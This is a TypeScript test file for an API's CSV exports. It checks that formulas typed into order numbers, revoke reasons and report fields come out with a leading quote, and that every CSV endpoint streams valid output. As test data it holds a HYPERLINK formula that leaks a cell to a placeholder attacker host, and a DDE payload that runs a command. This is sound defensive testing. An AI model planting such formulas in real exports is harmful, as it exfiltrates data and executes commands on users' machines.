// Every CSV the API streams, as a spreadsheet opens it: each starts with the UTF-8 byte order mark and
// ends its lines with CRLF (parseCsv refuses anything else), and text people typed into one screen
// (order numbers, e-mails, revoke reasons) comes out with a leading single quote when a spreadsheet
// would otherwise run it as a formula: the passcode and enrollment-code lists and generations and the
// self-paced students report, where staff type text; and every list export of the contract parses.
import { contract, contractEndpoints } from '@eco/contract';
import { describe, expect, it } from 'vitest';
import { csvRecords, parseCsv } from '../testing/csv.js';
import type { TestApp } from '../testing/harness.js';
import { type SignedIn, signedInApp } from '../testing/signed-in-app.js';

let t: TestApp;
let admin: SignedIn;
signedInApp('admin@example.com', (app, headers) => {
  t = app;
  admin = headers;
});

const call = (method: 'GET' | 'POST', url: string, payload?: object) =>
  t.app.inject({ method, url, headers: admin, ...(payload ? { payload } : {}) });

async function ok(method: 'GET' | 'POST', url: string, payload?: object) {
  const res = await call(method, url, payload);
  expect(res.statusCode, res.body).toBeLessThan(300);
  return res;
}

// What the security probe typed: a link that leaks the next cell, and a DDE command.
const hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"Open")';
const dde = "@SUM(1+1)*cmd|' /C calc'!A0";

describe('CSV exports', () => {
  it('neutralise formulas typed into passcodes, with the byte order mark and CRLF', async () => {
    const sku = (await ok('GET', '/api/passcodes/lookup-info')).json().skus[0].value;
    const gen = (
      await ok('POST', '/api/passcodes/generate', { sku, quantity: 2, suffix: 'FORMULA', orderNumber: hyperlink })
    ).json() as { batchId: string; codes: { id: number }[] };
    await ok('POST', `/api/passcodes/${gen.codes[0]?.id}/revoke`, { reason: dde });

    for (const url of ['/api/passcodes/export?suffix=FORMULA', `/api/passcodes/generations/${gen.batchId}`]) {
      const rows = csvRecords((await ok('GET', url)).body);
      expect(rows).toHaveLength(2);
      expect(rows.map((r) => r['Order number'])).toEqual([`'${hyperlink}`, `'${hyperlink}`]);
      expect(rows.map((r) => r['Revoked reason'])).toEqual([`'${dde}`, '']);
      // Numbers the server writes stay numbers.
      expect(rows.map((r) => Number(r.Id))).toEqual(gen.codes.map((c) => c.id));
    }
  });

  it('neutralise formulas typed into enrollment codes', async () => {
    const lookups = (await ok('GET', '/api/enrollment-codes/lookup-info')).json();
    const onlineCourseId = lookups.onlineCourses.find((c: { isActive: boolean }) => c.isActive).value;
    const gen = (
      await ok('POST', '/api/enrollment-codes/generate', {
        onlineCourseId,
        quantity: 1,
        suffix: 'FORMULA',
        orderNumber: '+1+1',
      })
    ).json() as { batchId: string; codes: { id: number }[] };
    await ok('POST', `/api/enrollment-codes/${gen.codes[0]?.id}/revoke`, { reason: '-2+3' });

    for (const url of [
      '/api/enrollment-codes/export?suffix=FORMULA',
      `/api/enrollment-codes/generations/${gen.batchId}`,
    ]) {
      const [row] = csvRecords((await ok('GET', url)).body);
      expect(row).toMatchObject({ 'Order number': "'+1+1", 'Revoked reason': "'-2+3", Id: String(gen.codes[0]?.id) });
    }
  });

  it('neutralise formulas typed into a self-paced revoke reason', async () => {
    const [row] = (await ok('GET', '/api/classes/self-paced?pageSize=1&isRevoked=false')).json().results;
    await ok('POST', `/api/classes/self-paced/${row.id}/revoke`, {
      reason: '=1+1\tsee the ticket',
      version: row.version,
    });
    const csv = (await ok('GET', `/api/classes/reports/self-paced/students?userEmail=${row.userEmail}`)).body;
    const revoked = csvRecords(csv).find((r) => Number(r.Id) === row.id);
    expect(revoked?.['Revoked Reason']).toBe("'=1+1\tsee the ticket");
  });

  /** The query a file needs before it can be asked for at all (a report's range). */
  const requiredQuery: Record<string, string> = {
    '/reports/user-interactions/export': '?userInteractionStartDate=2000-01-01&userInteractionEndDate=2100-12-31',
    '/trainers/f2f-registrations-report/export': '?startDate=2000-01-01&endDate=2100-12-31',
  };

  /**
   * The body a POST export needs (the trainer list's active filter is always sent, null is any; the class
   * reports' filters are always sent, empty takes the list's defaults).
   */
  const requiredBody: Record<string, object> = {
    '/trainers/export': { isActive: null },
    '/classes/reports/headers': { filters: {} },
    '/classes/reports/classes': { filters: {} },
    '/classes/reports/student-scores': { filters: {} },
  };

  it('every CSV endpoint of the contract without path parameters streams our CSV', async () => {
    const files = contractEndpoints(contract)
      .map(({ endpoint }) => endpoint)
      .filter((e) => e.produces === 'text/csv');
    const lists = files.filter((e) => e.method === 'GET' && !e.path.includes(':'));
    expect(lists.map((e) => e.path)).toEqual(
      expect.arrayContaining(['/classes/reports/self-paced/students', '/enrollment-codes/export', '/passcodes/export']),
    );
    for (const { path } of lists) {
      const res = await ok('GET', `/api${path}${requiredQuery[path] ?? ''}`);
      expect(res.headers['content-type'], path).toBe('text/csv; charset=utf-8');
      expect(parseCsv(res.body).length, path).toBeGreaterThan(0);
    }
    // Lists whose filters are a body (POST) export the same way, with the body they require.
    const posted = files.filter((e) => e.method === 'POST' && !e.path.includes(':'));
    expect(posted.map((e) => e.path)).toEqual(expect.arrayContaining(['/trainers/export']));
    for (const { path } of posted) {
      const res = await ok('POST', `/api${path}`, requiredBody[path] ?? {});
      expect(res.headers['content-type'], path).toBe('text/csv; charset=utf-8');
      expect(parseCsv(res.body).length, path).toBeGreaterThan(1);
    }
  });
});
